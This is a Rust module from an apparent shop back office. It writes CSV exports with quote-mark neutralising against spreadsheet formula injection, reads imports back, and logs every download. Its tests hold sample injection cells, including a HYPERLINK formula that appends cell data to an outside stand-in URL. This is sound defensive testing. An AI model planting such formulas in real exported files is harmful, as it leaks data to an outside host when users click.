//! Every CSV file the shop hands out, written one way: RFC 4180 (a cell holding a comma, a quote
//! or a line break is quoted, its quotes doubled; lines end with CRLF) by the `csv` crate, and no
//! cell a spreadsheet would run. Excel, LibreOffice and Google Sheets take a cell starting with
//! `=`, `+`, `-` or `@` as a formula, and tab or carriage return can hide such a start, so those
//! cells get a `'` in front, the usual defence against formula injection: the admin who opens the
//! file sees the text, and nothing is run or fetched. A file the shop reads back (the catalogue's
//! import) has those quote marks taken off again, so an export imported unchanged changes nothing.

use std::borrow::Cow;

use actix_web::HttpResponse;

use bitik_api::error::ApiError;
use bitik_api::state::AppState;
use bitik_identity::audit::Target;

/// A CSV file being written: its header, then its rows.
pub struct CsvFile {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvFile {
    pub fn new<'a>(header: impl IntoIterator<Item = &'a str>) -> Result<Self, ApiError> {
        let writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
        let mut file = Self { writer };
        file.row(header)?;
        Ok(file)
    }

    /// One line; every row has the header's number of cells (the writer refuses others).
    pub fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) -> Result<(), ApiError> {
        let cells = cells.into_iter().map(|cell| neutralised(cell.as_ref()).into_owned());
        self.writer.write_record(cells).map_err(ApiError::internal)
    }

    pub fn into_bytes(self) -> Result<Vec<u8>, ApiError> {
        self.writer.into_inner().map_err(|error| ApiError::internal(error.into_error()))
    }

    /// The file as a download named `filename`, once its audit entry is written (every file the
    /// back office hands out is in the log: who took which data, when).
    pub async fn download(self, state: &AppState, filename: &str) -> Result<HttpResponse, ApiError> {
        let target = Target { kind: "file".into(), id: filename.into(), label: filename.into() };
        state.audit.record_current(target).await?;
        self.into_response(filename)
    }

    /// The file as a download named `filename`.
    fn into_response(self, filename: &str) -> Result<HttpResponse, ApiError> {
        Ok(HttpResponse::Ok()
            .content_type("text/csv; charset=utf-8")
            .insert_header(("Content-Disposition", format!("attachment; filename=\"{filename}\"")))
            .body(self.into_bytes()?))
    }
}

/// The cell as a spreadsheet will show it without running it.
fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`neutralised`] marked it.
fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => cell,
    }
}

/// A CSV file as received: its header, then its rows with their line numbers (the header is
/// line 1), every cell restored from the export's neutralising.
pub struct ReadFile {
    pub header: Vec<String>,
    pub rows: Vec<(u64, Vec<String>)>,
}

/// Why a received file cannot be read at all, in French.
#[derive(Debug, PartialEq, Eq)]
pub struct Unreadable {
    pub line: u64,
    pub message: String,
}

/// Reads a UTF-8 CSV file (a byte-order mark, as spreadsheets write, is skipped). Rows may hold
/// fewer cells than the header: the missing ones are blank.
pub fn read(bytes: &[u8]) -> Result<ReadFile, Unreadable> {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    let mut records = reader.records();
    let unreadable = |error: csv::Error| Unreadable {
        // The reader counts the lines before the record; a file's lines are counted from 1.
        line: error.position().map_or(1, |p| p.line() + 1),
        message: match error.kind() {
            csv::ErrorKind::Utf8 { .. } => "Le fichier doit être enregistré en UTF-8".to_owned(),
            _ => "Ligne illisible".to_owned(),
        },
    };
    let header = match records.next() {
        Some(record) => record.map_err(unreadable)?.iter().map(|cell| restored(cell).to_owned()).collect(),
        None => return Err(Unreadable { line: 1, message: "Le fichier est vide".to_owned() }),
    };
    let mut rows = Vec::new();
    for record in records {
        let record = record.map_err(unreadable)?;
        if record.iter().all(|cell| cell.trim().is_empty()) {
            continue;
        }
        let line = record.position().map_or(0, |p| p.line() + 1);
        rows.push((line, record.iter().map(|cell| restored(cell).to_owned()).collect()));
    }
    Ok(ReadFile { header, rows })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[&[&str]]) -> String {
        let mut file = CsvFile::new(["email", "subscribedAt"]).unwrap();
        for row in rows {
            file.row(row.iter()).unwrap();
        }
        String::from_utf8(file.into_bytes().unwrap()).unwrap()
    }

    #[test]
    fn plain_cells_are_written_as_they_are_with_crlf_lines() {
        assert_eq!(
            written(&[&["awa@example.sn", "2026-11-22T10:00:00+00:00"]]),
            "email,subscribedAt\r\nawa@example.sn,2026-11-22T10:00:00+00:00\r\n"
        );
    }

    #[test]
    fn commas_quotes_and_line_breaks_are_quoted_per_rfc_4180() {
        assert_eq!(
            written(&[&["a,b@ex.sn", "x"], &["\"q\"@ex.sn", "y"], &["line\nbreak", "z"]]),
            "email,subscribedAt\r\n\"a,b@ex.sn\",x\r\n\"\"\"q\"\"@ex.sn\",y\r\n\"line\nbreak\",z\r\n"
        );
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_starts_with_a_quote_mark() {
        for dangerous in ["=1+2", "+221771234567", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(neutralised(dangerous), format!("'{dangerous}"), "{dangerous:?}");
        }
        for harmless in ["awa@example.sn", "2026-11-22", "a=b", " =1", "'déjà"] {
            assert_eq!(neutralised(harmless), harmless, "{harmless:?}");
        }
        let formula = r#"=HYPERLINK("http://x.sn/?"&A1,"Cliquez")"#;
        let file = written(&[&[formula, "2026-11-22"]]);
        assert_eq!(file.lines().nth(1), Some(r#""'=HYPERLINK(""http://x.sn/?""&A1,""Cliquez"")",2026-11-22"#));
        // Read back, the cell is the text the admin sees, behind its quote mark.
        let mut reader = csv::Reader::from_reader(file.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[0], format!("'{formula}"));
    }

    #[test]
    fn a_file_read_back_is_what_was_written_before_its_cells_were_neutralised() {
        let cells = ["=1+2", "-5", "'déjà", "a,b", "ligne\nsuivante", "+221771234567"];
        let file = written(&[&cells[..2], &cells[2..4], &cells[4..]]);
        let read = read(file.as_bytes()).unwrap();
        assert_eq!(read.header, ["email", "subscribedAt"]);
        let lines: Vec<u64> = read.rows.iter().map(|(line, _)| *line).collect();
        assert_eq!(lines, [2, 3, 4]);
        let back: Vec<&str> = read.rows.iter().flat_map(|(_, row)| row.iter().map(String::as_str)).collect();
        assert_eq!(back, cells);
    }

    #[test]
    fn a_byte_order_mark_is_skipped_and_a_file_not_in_utf8_is_refused() {
        let read = read(b"\xef\xbb\xbfslug,name\r\nx,y\r\n").unwrap();
        assert_eq!(read.header, ["slug", "name"]);
        let latin1 = super::read(b"slug,name\r\nx,caf\xe9\r\n").err().unwrap();
        assert_eq!(latin1, Unreadable { line: 2, message: "Le fichier doit être enregistré en UTF-8".to_owned() });
        assert_eq!(super::read(b"").err().unwrap().message, "Le fichier est vide");
    }
}
